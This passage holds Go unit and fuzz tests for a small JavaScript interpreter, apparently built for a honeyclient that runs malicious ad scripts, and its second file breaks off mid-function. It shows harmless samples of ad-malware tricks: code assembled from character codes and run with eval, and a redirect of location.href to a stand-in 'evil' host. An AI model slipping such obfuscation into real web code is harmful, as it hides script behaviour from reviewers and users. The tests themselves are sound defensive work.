		t.Fatalf("Run(%q) = %v, want %v", src, got, want)
	}
}

func expectStr(t *testing.T, src string, want string) {
	t.Helper()
	v := run(t, src)
	if !v.IsString() {
		t.Fatalf("Run(%q) = %#v (%s), want string", src, v, TypeOf(v))
	}
	got := v.Str()
	if got != want {
		t.Fatalf("Run(%q) = %q, want %q", src, got, want)
	}
}

func expectBool(t *testing.T, src string, want bool) {
	t.Helper()
	v := run(t, src)
	if !v.IsBool() {
		t.Fatalf("Run(%q) = %#v, want bool", src, v)
	}
	got := v.Bool()
	if got != want {
		t.Fatalf("Run(%q) = %v, want %v", src, got, want)
	}
}

func TestArithmetic(t *testing.T) {
	expectNum(t, `1 + 2 * 3`, 7)
	expectNum(t, `(1 + 2) * 3`, 9)
	expectNum(t, `10 / 4`, 2.5)
	expectNum(t, `10 % 3`, 1)
	expectNum(t, `-5 + 2`, -3)
	expectNum(t, `2 * 3 + 4 * 5`, 26)
	expectNum(t, `100 - 10 - 5`, 85) // left associativity
}

func TestStringConcat(t *testing.T) {
	expectStr(t, `"a" + "b"`, "ab")
	expectStr(t, `"n=" + 5`, "n=5")
	expectStr(t, `1 + 2 + "x"`, "3x")
	expectStr(t, `"x" + 1 + 2`, "x12")
	expectNum(t, `"5" - 2`, 3) // minus coerces to number
	expectNum(t, `"5" * "2"`, 10)
}

func TestComparisons(t *testing.T) {
	expectBool(t, `1 < 2`, true)
	expectBool(t, `2 <= 2`, true)
	expectBool(t, `"abc" < "abd"`, true)
	expectBool(t, `1 == "1"`, true)
	expectBool(t, `1 === "1"`, false)
	expectBool(t, `null == undefined`, true)
	expectBool(t, `null === undefined`, false)
	expectBool(t, `NaN == NaN`, false)
	expectBool(t, `"" == 0`, true)
}

func TestLogicalShortCircuit(t *testing.T) {
	expectNum(t, `var n = 0; function boom() { n = 99; return true; } false && boom(); n`, 0)
	expectNum(t, `var n = 0; function boom() { n = 99; return true; } true || boom(); n`, 0)
	expectNum(t, `0 || 7`, 7)
	expectStr(t, `"x" && "y"`, "y")
}

func TestVarsAndScopes(t *testing.T) {
	expectNum(t, `var a = 1, b = 2; a + b`, 3)
	expectNum(t, `var x = 1; { var x = 2; } x`, 1) // block scoping in this dialect
	expectNum(t, `var x = 1; function f() { x = 5; } f(); x`, 5)
	expectNum(t, `implicitGlobal = 3; implicitGlobal + 1`, 4)
}

func TestControlFlow(t *testing.T) {
	expectNum(t, `var x = 0; if (true) { x = 1; } else { x = 2; } x`, 1)
	expectNum(t, `var x = 0; if (false) x = 1; else x = 2; x`, 2)
	expectNum(t, `var s = 0; for (var i = 0; i < 5; i++) { s += i; } s`, 10)
	expectNum(t, `var s = 0, i = 0; while (i < 4) { s += i; i++; } s`, 6)
	expectNum(t, `var n = 0; do { n++; } while (n < 3); n`, 3)
	expectNum(t, `var s = 0; for (var i = 0; i < 10; i++) { if (i == 3) break; s += i; } s`, 3)
	expectNum(t, `var s = 0; for (var i = 0; i < 5; i++) { if (i % 2 == 0) continue; s += i; } s`, 4)
	expectNum(t, `var c = 0, i = 0; while (true) { i++; if (i > 2) break; c += 10; } c`, 20)
}

func TestForIn(t *testing.T) {
	expectStr(t, `var o = {b: 1, a: 2}; var keys = ""; for (var k in o) { keys += k; } keys`, "ab")
	expectNum(t, `var arr = [10, 20, 30]; var s = 0; for (var i in arr) { s += arr[i]; } s`, 60)
}

func TestFunctions(t *testing.T) {
	expectNum(t, `function add(a, b) { return a + b; } add(2, 3)`, 5)
	expectNum(t, `var f = function(x) { return x * 2; }; f(21)`, 42)
	expectNum(t, `function f() {} f() === undefined ? 1 : 0`, 1)
	expectNum(t, `function f(a, b) { return b; } f(1) === undefined ? 1 : 0`, 1)
	expectNum(t, `function fact(n) { return n <= 1 ? 1 : n * fact(n - 1); } fact(6)`, 720)
}

func TestClosures(t *testing.T) {
	expectNum(t, `
		function counter() {
			var n = 0;
			return function() { n++; return n; };
		}
		var c = counter();
		c(); c(); c()
	`, 3)
	expectNum(t, `
		function adder(x) { return function(y) { return x + y; }; }
		adder(10)(32)
	`, 42)
}

func TestArguments(t *testing.T) {
	expectNum(t, `function f() { return arguments.length; } f(1, 2, 3)`, 3)
	expectNum(t, `function f() { return arguments[1]; } f(10, 20)`, 20)
}

func TestObjects(t *testing.T) {
	expectNum(t, `var o = {a: 1, b: {c: 2}}; o.a + o.b.c`, 3)
	expectNum(t, `var o = {}; o.x = 5; o["y"] = 6; o.x + o.y`, 11)
	expectBool(t, `var o = {k: 1}; "k" in o`, true)
	expectBool(t, `var o = {k: 1}; delete o.k; "k" in o`, false)
	expectStr(t, `typeof {}`, "object")
	expectNum(t, `var o = {"quoted key": 7}; o["quoted key"]`, 7)
}

func TestObjectMethodsAndThis(t *testing.T) {
	expectNum(t, `
		var o = {
			val: 10,
			get: function() { return this.val; }
		};
		o.get()
	`, 10)
}

func TestArrays(t *testing.T) {
	expectNum(t, `var a = [1, 2, 3]; a.length`, 3)
	expectNum(t, `var a = [1, 2, 3]; a[1]`, 2)
	expectNum(t, `var a = []; a.push(5); a.push(6); a[0] + a[1]`, 11)
	expectNum(t, `var a = [1, 2, 3]; a.pop(); a.length`, 2)
	expectStr(t, `[1, 2, 3].join("-")`, "1-2-3")
	expectNum(t, `var a = [1, 2]; a[5] = 9; a.length`, 6)
	expectNum(t, `[4, 5, 6].indexOf(5)`, 1)
	expectNum(t, `[4, 5, 6].indexOf(99)`, -1)
	expectStr(t, `[3, 2, 1].reverse().join("")`, "123")
	expectStr(t, `[1, 2, 3, 4].slice(1, 3).join("")`, "23")
	expectStr(t, `[1, 2].concat([3, 4], 5).join("")`, "12345")
	expectNum(t, `var a = [9, 8]; a.shift(); a[0]`, 8)
	expectNum(t, `var a = [2]; a.unshift(1); a[0]`, 1)
	expectStr(t, `typeof []`, "object")
	expectBool(t, `[] instanceof Array`, true)
}

func TestStringMethods(t *testing.T) {
	expectNum(t, `"hello".length`, 5)
	expectStr(t, `"hello".charAt(1)`, "e")
	expectNum(t, `"abc".charCodeAt(0)`, 97)
	expectNum(t, `"hello".indexOf("ll")`, 2)
	expectStr(t, `"hello".substring(1, 3)`, "el")
	expectStr(t, `"hello".slice(-3)`, "llo")
	expectStr(t, `"hello".toUpperCase()`, "HELLO")
	expectStr(t, `"a,b,c".split(",").join("|")`, "a|b|c")
	expectStr(t, `"abc".split("").join(" ")`, "a b c")
	expectStr(t, `"aXbXc".replace("X", "-")`, "a-bXc")
	expectStr(t, `"  pad  ".trim()`, "pad")
	expectStr(t, `"hi"[0]`, "h")
	expectStr(t, `String.fromCharCode(72, 105)`, "Hi")
	expectStr(t, `"abcdef".substr(2, 3)`, "cde")
}

func TestNumberMethods(t *testing.T) {
	expectStr(t, `(255).toString(16)`, "ff")
	expectStr(t, `(3.14159).toFixed(2)`, "3.14")
	expectStr(t, `(42).toString()`, "42")
}

func TestMathBuiltins(t *testing.T) {
	expectNum(t, `Math.floor(3.7)`, 3)
	expectNum(t, `Math.ceil(3.1)`, 4)
	expectNum(t, `Math.abs(-5)`, 5)
	expectNum(t, `Math.max(1, 9, 4)`, 9)
	expectNum(t, `Math.min(1, 9, 4)`, 1)
	expectNum(t, `Math.pow(2, 10)`, 1024)
	expectBool(t, `Math.random() >= 0 && Math.random() < 1`, true)
}

func TestGlobalFunctions(t *testing.T) {
	expectNum(t, `parseInt("42")`, 42)
	expectNum(t, `parseInt("0x1f")`, 31)
	expectNum(t, `parseInt("ff", 16)`, 255)
	expectNum(t, `parseInt("12px")`, 12)
	expectNum(t, `parseFloat("2.5abc")`, math.NaN()) // strict stdlib-based parse
	expectBool(t, `isNaN(parseInt("zz"))`, true)
	expectStr(t, `unescape("a%20b")`, "a b")
	expectStr(t, `decodeURIComponent("x%3Dy")`, "x=y")
}

func TestTernaryAndUpdate(t *testing.T) {
	expectNum(t, `true ? 1 : 2`, 1)
	expectNum(t, `var x = 5; x++; x`, 6)
	expectNum(t, `var x = 5; x--; x`, 4)
	expectNum(t, `var x = 5; var y = x++; y`, 5)
	expectNum(t, `var x = 5; var y = ++x; y`, 6)
	expectNum(t, `var o = {n: 1}; o.n++; o.n`, 2)
	expectNum(t, `var x = 10; x += 5; x -= 3; x *= 2; x`, 24)
}

func TestBitwise(t *testing.T) {
	expectNum(t, `5 & 3`, 1)
	expectNum(t, `5 | 3`, 7)
	expectNum(t, `5 ^ 3`, 6)
	expectNum(t, `1 << 4`, 16)
	expectNum(t, `16 >> 2`, 4)
	expectNum(t, `~0`, -1)
}

func TestTypeof(t *testing.T) {
	expectStr(t, `typeof 1`, "number")
	expectStr(t, `typeof "s"`, "string")
	expectStr(t, `typeof true`, "boolean")
	expectStr(t, `typeof undefined`, "undefined")
	expectStr(t, `typeof null`, "object")
	expectStr(t, `typeof function() {}`, "function")
	expectStr(t, `typeof neverDeclared`, "undefined")
}

func TestThrowTryCatch(t *testing.T) {
	expectStr(t, `
		var msg = "";
		try { throw "boom"; msg = "not reached"; }
		catch (e) { msg = "caught " + e; }
		msg
	`, "caught boom")
	expectNum(t, `
		var n = 0;
		try { n = 1; } finally { n += 10; }
		n
	`, 11)
	expectStr(t, `
		var log = "";
		try {
			try { throw "inner"; } finally { log += "F"; }
		} catch (e) { log += "C" + e; }
		log
	`, "FCinner")
	// TypeError from the runtime is catchable.
	expectStr(t, `
		var r = "no";
		try { var x = null; x.prop; } catch (e) { r = "yes"; }
		r
	`, "yes")
}

func TestUncaughtThrow(t *testing.T) {
	in := New()
	_, err := in.Run(`throw "fatal";`)
	var te *ThrowError
	if !errors.As(err, &te) {
		t.Fatalf("err = %v, want ThrowError", err)
	}
	if ToString(te.Value) != "fatal" {
		t.Fatalf("thrown value = %v", te.Value)
	}
}

func TestReferenceError(t *testing.T) {
	in := New()
	_, err := in.Run(`missingVariable + 1`)
	if err == nil || !strings.Contains(err.Error(), "ReferenceError") {
		t.Fatalf("err = %v", err)
	}
}

func TestNotAFunctionError(t *testing.T) {
	in := New()
	_, err := in.Run(`var x = 5; x();`)
	if err == nil || !strings.Contains(err.Error(), "not a function") {
		t.Fatalf("err = %v", err)
	}
}

func TestBudgetExhaustion(t *testing.T) {
	in := New()
	in.Budget = 10000
	_, err := in.Run(`while (true) {}`)
	if !errors.Is(err, ErrBudget) {
		t.Fatalf("err = %v, want ErrBudget", err)
	}
}

func TestRecursionDepthLimit(t *testing.T) {
	in := New()
	_, err := in.Run(`function f() { return f(); } f();`)
	if err == nil || !strings.Contains(err.Error(), "call depth") {
		t.Fatalf("err = %v", err)
	}
}

func TestEval(t *testing.T) {
	expectNum(t, `eval("1 + 2")`, 3)
	expectNum(t, `eval("var evalVar = 9;"); evalVar`, 9)
	// Obfuscated payload: build code from char codes, then eval it. This is
	// the pattern malicious ads use; the honeyclient relies on it working.
	expectNum(t, `
		var code = String.fromCharCode(118, 97, 114, 32, 122, 61, 52, 50, 59); // "var z=42;"
		eval(code);
		z
	`, 42)
	in := New()
	if _, err := in.Run(`eval("syntax error here ###")`); err == nil {
		t.Fatal("eval of invalid code should throw")
	}
}

func TestNewExpr(t *testing.T) {
	expectNum(t, `
		function Point(x, y) { this.x = x; this.y = y; }
		var p = new Point(3, 4);
		p.x + p.y
	`, 7)
	expectNum(t, `var a = new Array(3); a.length`, 3)
}

func TestHostObjectTraps(t *testing.T) {
	in := New()
	var setName string
	var setVal Value
	host := NewObject()
	host.SetTrap = func(name string, v Value) bool {
		setName, setVal = name, v
		return true
	}
	host.GetTrap = func(name string) (Value, bool) {
		if name == "href" {
			return Str("http://initial.example.com/"), true
		}
		return Value{}, false
	}
	in.Global.Define("location", host.Value())

	if _, err := in.Run(`location.href = "http://evil.example.net/land";`); err != nil {
		t.Fatal(err)
	}
	if setName != "href" || ToString(setVal) != "http://evil.example.net/land" {
		t.Fatalf("trap saw %q = %v", setName, setVal)
	}
	v, err := in.Run(`location.href`)
	if err != nil {
		t.Fatal(err)
	}
	if ToString(v) != "http://initial.example.com/" {
		t.Fatalf("GetTrap value = %v", v)
	}
}

func TestCallFunctionFromGo(t *testing.T) {
	in := New()
	v, err := in.Run(`function double(x) { return x * 2; } double`)
	if err != nil {
		t.Fatal(err)
	}
	out, err := in.CallFunction(v, Undefined(), []Value{Num(21)})
	if err != nil {
		t.Fatal(err)
	}
	if !out.IsNumber() || out.Num() != 42 {
		t.Fatalf("CallFunction = %v", out)
	}
	if _, err := in.CallFunction(Str("not fn"), Undefined(), nil); err == nil {
		t.Fatal("calling non-function should fail")
	}
}

func TestNativeFunctionBinding(t *testing.T) {
	in := New()
	var captured []Value
	in.Global.Define("capture", NewNative("capture", func(_ *Interp, _ Value, args []Value) (Value, error) {
		captured = append(captured, args...)
		return Undefined(), nil
	}).Value())
	if _, err := in.Run(`capture(1, "two", true);`); err != nil {
		t.Fatal(err)
	}
	if len(captured) != 3 || !StrictEquals(captured[0], Num(1)) || !StrictEquals(captured[1], Str("two")) || !StrictEquals(captured[2], Bool(true)) {
		t.Fatalf("captured = %v", captured)
	}
}

// Property: the interpreter agrees with Go arithmetic on random integer
// expressions a op b.
func TestArithmeticProperty(t *testing.T) {
	in := New()
	f := func(a, b int16, opSel uint8) bool {
		ops := []string{"+", "-", "*"}
		op := ops[int(opSel)%len(ops)]
		in.Budget = DefaultBudget
		v, err := in.Run(formatNumber(float64(a)) + " " + op + " " + "(" + formatNumber(float64(b)) + ")")
		if err != nil {
			return false
		}
		var want float64
		switch op {
		case "+":
			want = float64(a) + float64(b)
		case "-":
			want = float64(a) - float64(b)
		case "*":
			want = float64(a) * float64(b)
		}
		return v.IsNumber() && v.Num() == want
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Fatal(err)
	}
}

// Property: running arbitrary source never panics (errors are fine).
func TestRunFuzzProperty(t *testing.T) {
	f := func(raw []byte) bool {
		in := New()
		in.Budget = 50000
		in.Run(string(raw))
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 400}); err != nil {
		t.Fatal(err)
	}
}

func TestValueConversions(t *testing.T) {
	if ToString(Num(3)) != "3" {
		t.Errorf("ToString(3) = %q", ToString(Num(3)))
	}
	if ToString(Num(3.5)) != "3.5" {
		t.Errorf("ToString(3.5) = %q", ToString(Num(3.5)))
	}
	arr := NewArray(Num(1), Str("a"), Null()).Value()
	if ToString(arr) != "1,a," {
		t.Errorf("array ToString = %q", ToString(arr))
	}
	if !math.IsNaN(ToNumber(Str("abc"))) {
		t.Error("ToNumber(abc) should be NaN")
	}
	if ToNumber(Str("0x10")) != 16 {
		t.Error("ToNumber hex failed")
	}
	if ToNumber(Str("")) != 0 {
		t.Error("ToNumber empty string should be 0")
	}
	if Truthy(Str("")) || Truthy(Num(0)) || Truthy(Null()) || Truthy(Undefined()) {
		t.Error("falsy values misjudged")
	}
	if !Truthy(Str("x")) || !Truthy(Num(1)) || !Truthy(NewObject().Value()) {
		t.Error("truthy values misjudged")
	}
}

func TestSyntaxErrors(t *testing.T) {
	bad := []string{
		`var = 5;`, `if (x`, `function (`, `for (;;`, `{`, `a +`,
		`var x = ;`, `o.;`, `try {}`, `1 ? 2`,
	}
	for _, src := range bad {
		in := New()
		if _, err := in.Run(src); err == nil {
			t.Errorf("Run(%q) should fail", src)
		}
	}
}

func TestDeepPropertyChains(t *testing.T) {
	expectNum(t, `
		var root = {a: {b: {c: {d: 42}}}};
		root.a.b.c.d
	`, 42)
	expectNum(t, `
		var o = {list: [{n: 1}, {n: 2}]};
		o.list[1].n
	`, 2)
}

func TestNestedFunctionsAndHoisting(t *testing.T) {
	expectNum(t, `
		var r = early();
		function early() { return 7; }
		r
	`, 7)
	expectNum(t, `
		function outer() {
			function inner() { return 5; }
			return inner() * 2;
		}
		outer()
	`, 10)
}

func TestCallViaIndexExpression(t *testing.T) {
	expectNum(t, `
		var obj = { twice: function(x) { return x * 2; } };
		obj["twice"](21)
	`, 42)
	expectNum(t, `
		var fns = [function() { return 7; }, function() { return 8; }];
		fns[1]()
	`, 8)
	expectStr(t, `"hello"["toUpperCase"]()`, "HELLO")
}

func TestNewWithMemberCallee(t *testing.T) {
	expectNum(t, `
		var ns = {};
		ns.Point = function(x) { this.x = x; };
		var p = new ns.Point(5);
		p.x
	`, 5)
	expectNum(t, `
		var ctors = [function() { this.v = 1; }];
		var o = new ctors[0]();
		o.v
	`, 1)
}

func TestCalleeNameInErrors(t *testing.T) {
	in := New()
	_, err := in.Run(`var o = { n: 1 }; o.n.missing();`)
	if err == nil || !strings.Contains(err.Error(), "o.n.missing") {
		t.Fatalf("err = %v", err)
	}
	in2 := New()
	_, err = in2.Run(`(1 + 2)();`)
	if err == nil || !strings.Contains(err.Error(), "expression") {
		t.Fatalf("err = %v", err)
	}
}

func TestConversionEdgeCases(t *testing.T) {
	// ToNumber on booleans, null, arrays.
	expectNum(t, `true + 1`, 2)
	expectNum(t, `false + 0`, 0)
	expectNum(t, `null + 1`, 1)
	expectNum(t, `+[]`, 0)
	expectNum(t, `+[7]`, 7)
	expectBool(t, `isNaN(+[1, 2])`, true)
	expectBool(t, `isNaN(+{})`, true)
	expectBool(t, `isNaN(undefined + 1)`, true)
	// ToString of special numbers and values.
	expectStr(t, `"" + (1 / 0)`, "Infinity")
	expectStr(t, `"" + (-1 / 0)`, "-Infinity")
	expectStr(t, `"" + (0 / 0)`, "NaN")
	expectStr(t, `"" + 1.5e21`, "1.5e+21")
	expectStr(t, `"" + true`, "true")
	expectStr(t, `"" + null`, "null")
	expectStr(t, `"" + undefined`, "undefined")
	expectStr(t, `"" + {}`, "[object Object]")
	expectStr(t, `"" + [1, [2, 3]]`, "1,2,3")
	expectStr(t, `"" + function named() {}`, "function named() { [code] }")
}

func TestComputedObjectAccess(t *testing.T) {
	expectNum(t, `var o = {}; var k = "dyn"; o[k] = 9; o[k] + o["dyn"]`, 18)
	expectNum(t, `var o = {a: 1}; o[undefined] = 5; o["undefined"]`, 5)
	expectStr(t, `var s = "abc"; s[1]`, "b")
	expectBool(t, `var s = "abc"; s[9] === undefined`, true)
}

func TestStringCompare(t *testing.T) {
	expectBool(t, `"b" > "a"`, true)
	expectBool(t, `"10" < "9"`, true) // string comparison
	expectBool(t, `10 < "9"`, false)  // numeric comparison
	expectBool(t, `"abc" <= "abc"`, true)
	expectBool(t, `"z" >= "a"`, true)
}

func TestDeleteAndInOperators(t *testing.T) {
	expectBool(t, `var o = {x: 1}; delete o.x`, true)
	expectBool(t, `delete 42`, true) // no-op, returns true
	expectBool(t, `var a = [1, 2]; "length" in a`, true)
	in := New()
	if _, err := in.Run(`"x" in 5`); err == nil {
		t.Fatal("'in' on number should throw")
	}
}

// TestNegativeZeroSemantics pins the fuzz-found constant-pool bug: -0 == +0
// in Go, so map-keyed interning collapsed the two into whichever the
// compiler saw first ("-0A=0" assigned -0 to A on the VM, 0 on the
// tree-walker). -0 must stay distinct (1/-0 is -Infinity) while its string
// form drops the sign, as JS ToString does.
func TestNegativeZeroSemantics(t *testing.T) {
	if got := ToString(Num(math.Copysign(0, -1))); got != "0" {
		t.Fatalf("ToString(-0) = %q, want \"0\"", got)
	}
	for _, vm := range []bool{false, true} {
		in := New()
		in.UseVM = vm
		v, err := in.Run(`var z = -0; var p = 0; "" + (1 / z) + "|" + (1 / p) + "|" + z;`)
		if err != nil {
			t.Fatal(err)
		}
		if got := ToString(v); got != "-Infinity|Infinity|0" {
			t.Fatalf("UseVM=%v: got %q, want \"-Infinity|Infinity|0\"", vm, got)
		}
	}
}

// TestNaNConstantSemantics is the mirror image of the -0 interning bug: in
// Go, NaN != NaN, so a map-keyed constant pool can never coalesce NaN
// entries — but however many pool slots NaN occupies, the loaded value must
// still behave like JS NaN on both engines (self-inequal, contagious
// through comparison, "NaN" when stringified).
func TestNaNConstantSemantics(t *testing.T) {
	for _, vm := range []bool{false, true} {
		in := New()
		in.UseVM = vm
		v, err := in.Run(`var a = NaN; var b = 0 / 0;
			"" + (a == a) + "|" + (a == b) + "|" + (a != a) + "|" + a + "|" + (1 < NaN) + "|" + (NaN <= NaN);`)
		if err != nil {
			t.Fatal(err)
		}
		if got, want := ToString(v), "false|false|true|NaN|false|false"; got != want {
			t.Fatalf("UseVM=%v: got %q, want %q", vm, got, want)
		}
	}
}

// TestStringInterningSemantics guards the string-scratch optimizations:
// identical literals may share one interned pool constant, and runtime
// concatenation builds through a reused scratch buffer — but a string that
// has escaped must be immutable. If the scratch were handed out by
// reference, the later `built + "X"` append would corrupt `built` after it
// already compared equal to the interned literal.
func TestStringInterningSemantics(t *testing.T) {
	for _, vm := range []bool{false, true} {
		in := New()
		in.UseVM = vm
		v, err := in.Run(`var lit1 = "intern-me"; var lit2 = "intern-me";
			var parts = ["in", "tern", "-", "me"];
			var built = "";
			for (var i = 0; i < parts.length; i++) { built += parts[i]; }
			var other = built + "X";
			"" + (lit1 == lit2) + "|" + (built == lit1) + "|" + built + "|" + other;`)
		if err != nil {
			t.Fatal(err)
		}
		if got, want := ToString(v), "true|true|intern-me|intern-meX"; got != want {
			t.Fatalf("UseVM=%v: got %q, want %q", vm, got, want)
		}
	}
}
