package minijs

// Tests for the error-tolerant parse path and the ASI/regex lexer rules
// (ISSUE 6): broken ad scripts must degrade to deterministic partial
// execution, and the restricted productions real ad scripts trip over
// (`return\nexpr`, newline-before-++, regex vs division) must match
// JavaScript.

import (
	"strings"
	"testing"
)

// runTolerant parses src tolerantly, executes the recovered program, and
// returns the interpreter (for global inspection) plus the parse errors.
func runTolerant(t *testing.T, src string) (*Interp, []*SyntaxError) {
	t.Helper()
	prog, errs := ParseTolerant(src)
	if prog == nil {
		t.Fatalf("ParseTolerant returned nil program for %q", src)
	}
	in := New()
	in.Budget = fuzzEvalBudget
	if _, err := in.RunProgram(prog); err != nil {
		// Partial programs may still throw at run time; that is fine — the
		// contract is recovery to *execution*, not error-free execution.
		t.Logf("runtime error (allowed): %v", err)
	}
	return in, errs
}

func globalString(t *testing.T, in *Interp, name string) string {
	t.Helper()
	v, ok := in.Global.Lookup(name)
	if !ok {
		return "<unset>"
	}
	return ToString(v)
}

func TestASIRestrictedProductions(t *testing.T) {
	tests := []struct {
		name, src, want string
	}{
		// return\nexpr: the newline terminates the return statement.
		{"return newline", "function f() { return\n42; }\n\"\" + f();", "undefined"},
		{"return same line", "function f() { return 42; }\n\"\" + f();", "42"},
		// a\n++b parses as two statements, not a postfix increment.
		{"newline before ++", "var a = 1; var b = 10;\na\n++b;\na + \":\" + b;", "1:11"},
		{"newline before --", "var a = 1; var b = 10;\na\n--b;\na + \":\" + b;", "1:9"},
		{"postfix same line", "var a = 1; a++;\n\"\" + a;", "2"},
		{"var init ends at newline", "var a = 5;\nvar b = a\n++a;\nb + \":\" + a;", "5:6"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			in := New()
			v, err := in.Run(tc.src)
			if err != nil {
				t.Fatalf("run error: %v", err)
			}
			if got := ToString(v); got != tc.want {
				t.Errorf("got %q, want %q", got, tc.want)
			}
		})
	}
}

func TestThrowNewlineIsError(t *testing.T) {
	// `throw\nexpr` is a hard SyntaxError in JavaScript (no ASI rescue).
	_, err := Parse("throw\n1;")
	if err == nil {
		t.Fatal("strict parse accepted newline after throw")
	}
	if !strings.Contains(err.Error(), "newline after throw") {
		t.Errorf("unexpected error: %v", err)
	}
	// The tolerant parser records the defect but keeps the throw.
	prog, errs := ParseTolerant("throw\n1;")
	if len(errs) == 0 {
		t.Error("tolerant parse recorded no error for newline after throw")
	}
	if len(prog.Body) == 0 {
		t.Error("tolerant parse dropped the throw statement")
	}
}

func TestRegexVsDivision(t *testing.T) {
	hasRegex := func(src string) bool {
		toks, err := Lex(src)
		if err != nil {
			t.Fatalf("lex %q: %v", src, err)
		}
		for _, tok := range toks {
			if tok.Kind == TokRegex {
				return true
			}
		}
		return false
	}
	regexCases := []string{
		`var r = /ab+c/;`,       // after '='
		`f(/x/);`,               // after '('
		`return /a/;`,           // after keyword
		`1 + /a/.source;`,       // after operator
		`typeof /x/;`,           // after typeof
		`[/a/, /b/];`,           // inside array literal
		`{} /x/.test("");`,      // '}' ends a block: regex position
		`var ok = true && /y/;`, // after '&&'
		`case /z/:`,             // after case
	}
	divisionCases := []string{
		`var r = 4 / 2;`,     // after number
		`var r = x / y;`,     // after identifier
		`var r = (4) / 2;`,   // after ')'
		`var r = a[0] / 2;`,  // after ']'
		`var r = b++ / 2;`,   // after '++'
		`var r = "s" / 2;`,   // after string
		`var r = this / 2;`,  // after this
		`var r = /a/ / /b/;`, // second '/' divides two regexes
	}
	for _, src := range regexCases {
		if !hasRegex(src) {
			t.Errorf("expected regex literal in %q", src)
		}
	}
	for _, src := range divisionCases {
		// Each division case must lex with the '/' as an operator. The
		// regex-after-regex case legitimately contains regex tokens too, so
		// assert by round-trip evaluation where possible instead of token
		// absence for that one.
		if src == `var r = /a/ / /b/;` {
			continue
		}
		if hasRegex(src) {
			t.Errorf("misread division as regex in %q", src)
		}
	}
	// Dividing two regex literals: '/' after a regex token is division.
	toks, err := Lex(`var r = /a/ / /b/;`)
	if err != nil {
		t.Fatalf("lex: %v", err)
	}
	n := 0
	for _, tok := range toks {
		if tok.Kind == TokRegex {
			n++
		}
	}
	if n != 2 {
		t.Errorf("got %d regex tokens, want 2 (middle '/' is division)", n)
	}
}

func TestRegexLiteralRuntime(t *testing.T) {
	in := New()
	v, err := in.Run(`
		var r = /a(b+)c/;
		var s = "";
		s += r.test("xxabbbcxx") + "|";
		s += r.test("nope") + "|";
		var m = r.exec("xxabbbcxx");
		s += m[0] + "," + m[1] + "," + m.index + "|";
		s += "a1b2c3".replace(/[0-9]/g, "_") + "|";
		s += "a1b2c3".replace(/[0-9]/, "_") + "|";
		s += /(?!unsupported)x/.test("x");
		s;
	`)
	if err != nil {
		t.Fatalf("run: %v", err)
	}
	want := "true|false|abbbc,bbb,2|a_b_c_|a_b2c3|false"
	if got := ToString(v); got != want {
		t.Errorf("got %q, want %q", got, want)
	}
}

// TestTolerantRecovery drives the deliberately-broken corpus from the
// acceptance criteria: missing braces, unterminated strings, stray tokens.
// Every script must parse to a partial program that executes the intact
// statements, with identical results on every run.
func TestTolerantRecovery(t *testing.T) {
	tests := []struct {
		name, src string
		global    string // global to inspect after execution
		want      string
		minErrs   int
	}{
		{
			name:    "missing closing brace",
			src:     "var before = 1; if (before) { tracked = \"yes\";",
			global:  "tracked",
			want:    "yes",
			minErrs: 1,
		},
		{
			name:    "unterminated string",
			src:     "var s = \"unterminated\nvar after = 2;",
			global:  "after",
			want:    "2",
			minErrs: 1,
		},
		{
			name:    "stray tokens between statements",
			src:     "var a = 1; ] ) ; var b = a + 41;",
			global:  "b",
			want:    "42",
			minErrs: 1,
		},
		{
			name:    "bad byte in input",
			src:     "var a = 1; \x01\x02 var b = a + 1;",
			global:  "b",
			want:    "2",
			minErrs: 1,
		},
		{
			name:    "broken condition parenthesis",
			src:     "var a = 1; if (a { nope = 1; } fine = 2;",
			global:  "fine",
			want:    "2",
			minErrs: 1,
		},
		{
			name:    "unterminated block comment",
			src:     "var a = 7; /* comment never ends\nvar b = 8;",
			global:  "a",
			want:    "7",
			minErrs: 1,
		},
		{
			name:    "garbage prefix, valid suffix",
			src:     "%%%%;;;; function g() { return 9; } var out = g();",
			global:  "out",
			want:    "9",
			minErrs: 1,
		},
		{
			name:    "valid program has no errors",
			src:     "var x = 1; x += 2;",
			global:  "x",
			want:    "3",
			minErrs: 0,
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			in, errs := runTolerant(t, tc.src)
			if len(errs) < tc.minErrs {
				t.Errorf("got %d parse errors, want at least %d", len(errs), tc.minErrs)
			}
			if tc.minErrs == 0 && len(errs) != 0 {
				t.Errorf("valid program produced errors: %v", errs[0])
			}
			if got := globalString(t, in, tc.global); got != tc.want {
				t.Errorf("global %s = %q, want %q", tc.global, got, tc.want)
			}
			// Determinism: a second tolerant parse and run must agree
			// exactly — same errors, same globals.
			in2, errs2 := runTolerant(t, tc.src)
			if len(errs) != len(errs2) {
				t.Fatalf("nondeterministic error count: %d vs %d", len(errs), len(errs2))
			}
			for i := range errs {
				if errs[i].Error() != errs2[i].Error() {
					t.Errorf("nondeterministic error %d: %q vs %q", i, errs[i].Error(), errs2[i].Error())
				}
			}
			if g1, g2 := globalSnapshot(in), globalSnapshot(in2); g1 != g2 {
				t.Errorf("nondeterministic execution:\n%s\nvs\n%s", g1, g2)
			}
		})
	}
}

// TestTolerantErrorBudget checks the abort flag: adversarial garbage stops
// after maxParseErrors recoveries instead of grinding through megabytes.
func TestTolerantErrorBudget(t *testing.T) {
	src := strings.Repeat("] ; ", maxParseErrors*3)
	prog, errs := ParseTolerant(src)
	if prog == nil {
		t.Fatal("nil program")
	}
	if len(errs) > maxParseErrors {
		t.Errorf("error budget exceeded: %d > %d", len(errs), maxParseErrors)
	}
	if len(errs) < maxParseErrors {
		t.Errorf("expected a full error budget, got %d", len(errs))
	}
}

func FuzzParseRecover(f *testing.F) {
	addScriptSeeds(f)
	brokenSeeds := []string{
		"var a = 1; if (a) { tracked = \"yes\";",
		"var s = \"unterminated\nvar after = 2;",
		"var a = 1; ] ) ; var b = a + 41;",
		"%%%%;;;; function g() { return 9; } var out = g();",
		"throw\n1;",
		"var s = 'x\\",
		"a\n++\nb",
	}
	for _, s := range brokenSeeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		if len(src) > 1<<12 {
			t.Skip("oversized input")
		}
		// Never panics, never loops, never nil.
		prog, errs := ParseTolerant(src)
		if prog == nil {
			t.Fatal("ParseTolerant returned nil program")
		}
		// Superset of the strict grammar: anything the strict parser
		// accepts must recover error-free with the same statement count.
		if strict, err := Parse(src); err == nil {
			if len(errs) != 0 {
